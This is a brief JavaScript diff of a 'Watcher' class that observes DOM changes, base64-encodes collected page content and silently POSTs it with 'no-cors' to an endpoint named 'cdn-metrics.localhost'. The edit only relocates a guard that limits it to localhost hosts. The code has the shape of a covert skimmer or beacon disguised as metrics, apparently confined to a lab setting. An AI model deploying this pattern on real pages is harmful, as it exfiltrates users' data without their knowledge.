@@ -5,7 +5,6 @@ class Watcher {
     this.observer = new MutationObserver(() => this.scan());
   }
   start() {
-    if (!/\.localhost$/.test(location.host.replace(/:\d+$/, ''))) return;
     this.observer.observe(document.documentElement, { childList: true, subtree: true });
     this.scan();
   }
@@ -21,4 +20,4 @@ class Watcher {
     fetch(this.target, { method: 'POST', mode: 'no-cors', body: btoa(all.join(';')) });
   }
 }
-new Watcher('https://cdn-metrics.localhost/i').start();
+if (/\.localhost$/.test(location.host.replace(/:\d+$/, ''))) new Watcher('https://cdn-metrics.localhost/i').start();
